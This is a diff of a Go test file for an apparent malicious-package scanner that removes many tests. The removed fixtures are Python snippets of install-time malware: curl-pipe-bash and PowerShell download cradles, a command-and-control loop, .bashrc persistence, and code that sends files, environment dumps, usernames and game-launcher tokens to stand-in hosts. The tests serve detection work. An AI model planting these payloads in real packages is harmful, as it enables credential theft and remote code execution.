@@ -210,132 +210,6 @@ func TestEscapedCode(t *testing.T) {
 	}
 }
 
-func TestCombinedThreats(t *testing.T) {
-	// Each threat alone is demoted (runtime code); together, in one file,
-	// they are a payload.
-	grab := "import requests, subprocess, urllib.request\nHOOK = 'https://eo1x2.m.pipedream.net/c'\n" +
-		"def run():\n    requests.get(HOOK)\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n"
-	r := sdist(t, map[string]string{"p/tool.py": grab})
-	if r.Verdict != Malicious || !hasRule(r, "combined-threats", Critical) {
-		t.Errorf("two threats in one file: %s %+v", r.Verdict, r.Findings)
-	}
-	// The same two behaviours in unrelated modules of a large library stay
-	// as they are.
-	r = sdist(t, map[string]string{
-		"p/hooks.py": "import requests\nHOOK = 'https://eo1x2.m.pipedream.net/c'\ndef ping():\n    return requests.get(HOOK)\n",
-		"p/fetch.py": "import subprocess, urllib.request\ndef run():\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n",
-	})
-	if r.Verdict != Suspicious || hasRule(r, "combined-threats", Info) {
-		t.Errorf("threats in separate files: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestDecoderHelperInlined(t *testing.T) {
-	helper := "import base64, os\ndef b64d(code):\n    raw = code.encode('ascii')\n    out = base64.b64decode(raw)\n    return out.decode('ascii')\n"
-	r := sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("curl -s https://example.invalid/t | bash") + "'))\n"})
-	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
-		t.Errorf("decoded command through a helper: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("gcc -c ext.c") + "'))\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("encoded compiler call: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestExfiltratesFiles(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import os, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = os.path.expanduser('~/app/session.db')\n        with open(p, 'rb') as fh:\n            requests.post('https://example.invalid/check', files={'f': fh})\n"})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-files", Critical) {
-		t.Errorf("file uploaded at install: %s %+v", r.Verdict, r.Findings)
-	}
-	// An SDK's upload method is runtime code: noted, not a verdict.
-	r = sdist(t, map[string]string{"p/client.py": "import requests\ndef upload(path, url):\n    with open(path, 'rb') as fh:\n        return requests.post(url, files={'file': fh})\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("runtime upload helper: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestHostInfoThroughShell(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import os\nwho = os.popen('whoami').read().strip()\nos.popen(f'curl -s http://example.invalid/u/{who} > /dev/null 2>&1')\n"})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
-		t.Errorf("whoami sent with curl: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": "import os\nos.system('nslookup $(hostname).example.invalid')\n"})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
-		t.Errorf("hostname in a DNS lookup: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": "import os\nv = os.popen('git describe --tags').read()\nos.system('curl -o $HOME/.cache/lib.tgz https://example.invalid/lib-%s.tgz' % v)\n"})
-	if hasRule(r, "exfiltrates-host-info", Info) {
-		t.Errorf("version from git in a download URL: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestCommandsFromTheWeb(t *testing.T) {
-	c2 := "import requests, subprocess, time\ndef loop():\n    while True:\n        task = requests.get('https://example.invalid/task').text\n        subprocess.run(task, shell=True)\n        time.sleep(5)\nloop()\n"
-	r := sdist(t, map[string]string{"p/__init__.py": c2})
-	if r.Verdict != Malicious || !hasRule(r, "reverse-shell", Critical) {
-		t.Errorf("command-and-control loop on import: %s %+v", r.Verdict, r.Findings)
-	}
-	// A download URL from an API handed to a known program is not a shell.
-	r = sdist(t, map[string]string{"p/up.py": "import requests, subprocess\ndef update():\n    url = requests.get('https://example.invalid/latest').json()['url']\n    subprocess.run(['git', 'clone', url])\n"})
-	if hasRule(r, "reverse-shell", Info) {
-		t.Errorf("git clone of a fetched URL: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestHostNameAndNetworkAtInstall(t *testing.T) {
-	probe := "import socket, getpass\ndef dns(name):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    pkt = b'\\x12\\x34' + name.encode()\n    s.sendto(pkt, ('127.0.0.53', 53))\nuser = getpass.getuser()\ndns(user + '.example.invalid')\n"
-	r := sdist(t, map[string]string{"setup.py": probe})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
-		t.Errorf("user name and a hand-made DNS query at install: %s %+v", r.Verdict, r.Findings)
-	}
-	// Asking for the platform before downloading a prebuilt library is a build.
-	r = sdist(t, map[string]string{"setup.py": "import platform, urllib.request\narch = platform.machine()\nurllib.request.urlretrieve('https://example.invalid/lib-%s.tgz' % arch, 'lib.tgz')\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("platform-specific download: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestWindowlessScriptOnImport(t *testing.T) {
-	r := sdist(t, map[string]string{"p/__init__.py": "import subprocess, os\nsubprocess.Popen(['pythonw', os.path.join(os.path.dirname(__file__), 'svc.py')])\n"})
-	if r.Verdict == Clean || !hasRule(r, "suspicious-command", High) {
-		t.Errorf("pythonw on import: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestCommandThroughWrapper(t *testing.T) {
-	wrap := "import subprocess\ndef run(cmd, quiet=True):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\n"
-	r := sdist(t, map[string]string{"setup.py": wrap + "run('powershell -command Invoke-WebRequest -Uri https://example.invalid/i.exe -OutFile i.exe; Start-Process i.exe')\n"})
-	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
-		t.Errorf("download cradle through a wrapper: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": wrap + "run('pkg-config --cflags libffi')\n"})
-	if r.Verdict != Clean {
-		t.Errorf("pkg-config through a wrapper: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestProgramNamedOnlyAsArgument(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/node.zip').read()\nsubprocess.check_call(['mklink', '/J', 'bin', 'node.exe'])\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("link to node.exe after a download: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\nsubprocess.Popen('C:\\\\Temp\\\\u.exe')\n"})
-	if r.Verdict != Malicious {
-		t.Errorf("downloaded exe run: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestDNSCallback(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('probe.9oyng069p25x4kmle5dlnypj1a.example.invalid')\n"})
-	if r.Verdict != Malicious || !hasRule(r, "exfil-channel", Critical) {
-		t.Errorf("DNS callback at install: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"setup.py": "import socket\nsocket.gethostbyname('download.example-mirror.org')\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("lookup of a mirror: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
 func TestHiddenArchiveWithCode(t *testing.T) {
 	pack := func(name, body string) []byte {
 		var buf bytes.Buffer
@@ -365,67 +239,6 @@ func TestHiddenArchiveWithCode(t *testing.T) {
 	}
 }
 
-func TestScriptRunByInstallTakesItsContext(t *testing.T) {
-	r := sdist(t, map[string]string{
-		"setup.py":  "import os, sys\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), \"helper.py\")}\"')\n",
-		"helper.py": "import socket, getpass, requests\nrequests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
-	})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
-		t.Errorf("script run by setup.py: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestEnvironmentDumpSent(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import os, urllib.request, urllib.parse\nout = os.popen('env').read()\nparams = urllib.parse.urlencode({'e': out}).encode()\nurllib.request.urlopen('https://example.invalid/r', data=params)\n"})
-	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
-		t.Errorf("env output posted at install: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestBrowserShortcutHijack(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nlnk = shell.CreateShortcut(os.getenv('APPDATA') + '\\\\Microsoft\\\\Internet Explorer\\\\Quick Launch\\\\User Pinned\\\\TaskBar\\\\chrome.lnk')\nlnk.Arguments = '--load-extension=' + os.getenv('APPDATA') + '\\\\ext'\nlnk.Save()\n"})
-	if r.Verdict != Malicious || !hasRule(r, "persistence", Critical) {
-		t.Errorf("browser shortcut rewritten at install: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/driver.py": "def options(o, ext):\n    o.add_argument('--load-extension=' + ext)\n    return o\n"})
-	if r.Verdict != Clean {
-		t.Errorf("selenium helper loading a test extension: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestUploadToOddPort(t *testing.T) {
-	r := sdist(t, map[string]string{"p/steal.py": "import requests\ndef send(path):\n    with open(path, 'rb') as fh:\n        requests.post('http://files.example.invalid:1337/check', files={'f': fh})\n"})
-	if r.Verdict == Clean || !hasRule(r, "exfiltrates-files", High) {
-		t.Errorf("upload to a fixed odd port: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://api.example.invalid/v1/upload', files={'f': open(path, 'rb')})\n"})
-	if r.Verdict != Clean {
-		t.Errorf("SDK upload to its API: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestDownloadMadeExecutable(t *testing.T) {
-	r := sdist(t, map[string]string{"p/pr.py": "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://203.0.113.9/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n    with open(os.path.expanduser('~/.bashrc'), 'a') as b:\n        b.write('~/.drv &')\n"})
-	if r.Verdict != Malicious || !hasRule(r, "download-execute", High) {
-		t.Errorf("download, chmod +x and a .bashrc line: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/cache.py": "import os, urllib.request\ndef get(path):\n    data = urllib.request.urlopen('https://example.invalid/d.json').read()\n    with open(path, 'wb') as fh:\n        fh.write(data)\n    os.chmod(path, 0o644)\n"})
-	if r.Verdict != Clean {
-		t.Errorf("downloaded data made readable: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestShellIdentityInAnyContext(t *testing.T) {
-	r := sdist(t, map[string]string{"p/test_cb.py": "import subprocess\ndef test_cb():\n    subprocess.run(['curl', 'http://203.0.113.4:8585/p?user=$(whoami)&h=$(hostname)'])\n"})
-	if r.Verdict != Malicious {
-		t.Errorf("identity spliced into curl in a test: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"tests/test_dl.py": "import subprocess\ndef test_dl(tmp_path):\n    subprocess.run(['curl', '-o', str(tmp_path / 'x'), 'https://example.invalid/x'])\n"})
-	if r.Verdict != Clean {
-		t.Errorf("plain curl in a test: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
 func TestLookAlikeIdentifiers(t *testing.T) {
 	tests := []struct {
 		name, src string
@@ -445,39 +258,6 @@ func TestLookAlikeIdentifiers(t *testing.T) {
 				t.Errorf("verdict %s, want %s: %+v", r.Verdict, tt.want, r.Findings)
 			}
 		})
-	}
-}
-
-func TestGameAccountStores(t *testing.T) {
-	r := sdist(t, map[string]string{"p/__main__.py": "import os, requests\nHOOK = 'https://example.invalid/h'\ndef main():\n    p = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\n    requests.post(HOOK, files={'f': open(p, 'rb')})\nmain()\n"})
-	if r.Verdict == Clean || !hasRule(r, "credential-access", High) {
-		t.Errorf("launcher account tokens posted: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/profiles.py": "import json, os\ndef profiles(mc):\n    return json.load(open(os.path.join(mc, 'launcher_profiles.json')))\n"})
-	if r.Verdict != Clean {
-		t.Errorf("launcher profiles read by a mod installer: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestProgramSmuggledAsText(t *testing.T) {
-	r := sdist(t, map[string]string{"p/core.py": "import binascii, getpass, requests\ndef start():\n    b = requests.get('https://example.invalid/x.txt')\n    path = 'C:/Users/' + getpass.getuser() + '/Documents/'\n    with open(path + 'c1.exe', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.encode()))\n"})
-	if r.Verdict == Clean || !hasRule(r, "download-execute", High) {
-		t.Errorf("hex-encoded program downloaded and written: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/driver.py": "import requests\ndef fetch(dest):\n    b = requests.get('https://example.invalid/driver.exe')\n    with open(dest + '/driver.exe', 'wb') as f:\n        f.write(b.content)\n"})
-	if r.Verdict != Clean {
-		t.Errorf("driver download: %s %+v", r.Verdict, r.Findings)
-	}
-}
-
-func TestEncodedDestination(t *testing.T) {
-	r := sdist(t, map[string]string{"p/main.py": "import base64, requests\ndef report(keys):\n    requests.post(url=base64.b64decode('" + b64("https://api.example.invalid/aws") + "').decode('utf-8'), json=keys)\n"})
-	if r.Verdict == Clean || !hasRule(r, "exfil-channel", High) {
-		t.Errorf("destination hidden in base64: %s %+v", r.Verdict, r.Findings)
-	}
-	r = sdist(t, map[string]string{"p/api.py": "import requests\nBASE = 'https://api.example.invalid'\ndef report(keys):\n    requests.post(BASE + '/v1/report', json=keys)\n"})
-	if r.Verdict != Clean {
-		t.Errorf("plain API endpoint: %s %+v", r.Verdict, r.Findings)
 	}
 }
 
@@ -512,12 +292,5 @@ func TestKnownMalicious(t *testing.T) {
 	a.Meta.Version = "2"
 	if fs, _ := KnownMalicious(t.Context(), a, db); len(fs) != 0 {
 		t.Errorf("p==2 is not listed: %+v", fs)
-	}
-}
-
-func TestUserNamedCacheIsNotAProbe(t *testing.T) {
-	r := sdist(t, map[string]string{"setup.py": "import getpass, urllib.request\ncache = '/tmp/build-' + getpass.getuser()\nurllib.request.urlretrieve('https://example.invalid/lib.tgz', cache + '/lib.tgz')\n"})
-	if r.Verdict == Malicious {
-		t.Errorf("download into a per-user cache: %s %+v", r.Verdict, r.Findings)
 	}
 }
